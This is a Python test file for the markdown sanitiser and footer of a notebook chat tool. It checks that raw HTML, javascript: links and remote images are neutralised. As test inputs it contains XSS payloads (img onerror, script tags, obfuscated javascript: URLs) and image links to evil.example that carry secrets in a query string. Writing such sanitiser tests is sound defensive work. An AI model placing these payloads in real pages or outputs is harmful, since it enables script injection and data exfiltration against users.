import re

import pytest

from nbchat.core.errors import ProviderError
from nbchat.core.render import footer, safe_markdown
from nbchat.core.types import Reply, ToolCall, Usage


def test_raw_html_is_escaped_outside_code():
    out = safe_markdown('hi <img src=x onerror="alert(1)"> <script>alert(2)</script>')
    assert "<img" not in out and "<script" not in out
    assert "&lt;img src=x" in out and "&lt;script&gt;" in out


def test_code_is_left_as_written():
    text = "Use `<b>` tags:\n\n```html\n<script>x()</script>\n```\nafter <i>"
    out = safe_markdown(text)
    assert "<code>&#60;b&#62;</code>" in out
    assert "```html\n<script>x()</script>\n```\n" in out
    assert out.endswith("after &lt;i&gt;")


def test_unclosed_fence_stays_code():
    out = safe_markdown("```\n<b>")
    assert out == "```\n<b>"


def test_javascript_links_are_neutralised():
    for target in ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:x",
                   "&#106;avascript:x", "data:text/html,<b>", "vbscript:x"):
        out = safe_markdown(f"[click]({target})")
        assert "](#" in out, (target, out)
    ref = safe_markdown("[a][1]\n\n[1]: javascript:alert(1)")
    assert "javascript" not in ref
    assert "(https://example.com/x)" in safe_markdown("[ok](https://example.com/x)")


def test_remote_images_become_links():
    out = safe_markdown("![leak](https://evil.example/?q=secret)")
    assert "![" not in out
    assert "](https://evil.example/?q=secret)" in out


def test_footer_figures():
    r = Reply(text="x", model="llamacpp:smollm2", usage=Usage(12, 40),
              time_to_first_token=0.25, duration=1.25)
    assert footer(r) == "llamacpp:smollm2 · 12 in / 40 out tokens · first token 0.25 s · 40.0 tok/s"
    md = r._repr_markdown_()
    assert md.startswith("x") and "<sub>" in md


def _tags(markdown: str) -> list[str]:
    """Raw HTML tags in Markdown, other than the `<code>` we write ourselves."""
    return re.findall(r"<(?!/?code>)[A-Za-z/!?]", markdown)


@pytest.mark.parametrize("text", [
    "`<img src=x onerror=alert(1)>``",  # a run of two does not close a run of one
    "`a\n\n<img src=x onerror=alert(1)>\n\nb`",  # a code span ends at a blank line
    "`a\n<script>alert(1)</script>`",  # an HTML block may interrupt a paragraph
    "x `a\nb` <img src=x onerror=1> `c`",
    "\\`<img src=x onerror=alert(1)>`",  # an escaped backtick opens nothing
    "```x`\n<img src=x onerror=alert(1)>\n```",  # not a fence: info string with a backtick
    "- a\n  ```\n<img src=x onerror=alert(1)>\n",  # the list item, and its fence, ended
])
def test_no_raw_html_where_a_renderer_reads_the_text_differently(text):
    out = safe_markdown(text)
    assert _tags(out) == [], out


def test_risky_code_spans_become_escaped_code():
    out = safe_markdown("`<b>` and `[x](javascript:alert(1))`")
    assert out == "<code>&#60;b&#62;</code> and <code>&#91;x&#93;(javascript:alert(1))</code>"
    assert safe_markdown("use `print(x)` here") == "use `print(x)` here"


def test_tool_calls_from_the_model_cannot_inject_html():
    call = ToolCall("f`<img src=x onerror=alert(1)>`", {"a": "`<script>x()</script>`"})
    md = Reply(text="", model="m", tool_calls=[call])._repr_markdown_()
    assert _tags(md.replace("<sub>", "").replace("</sub>", "")) == [], md


def test_error_text_cannot_make_links_or_images():
    md = Reply(model="m", error=ProviderError("see ![x](https://evil/?q=1) [y](javascript:z)"))
    out = md._repr_markdown_()
    assert "![" not in out and "javascript:" not in out
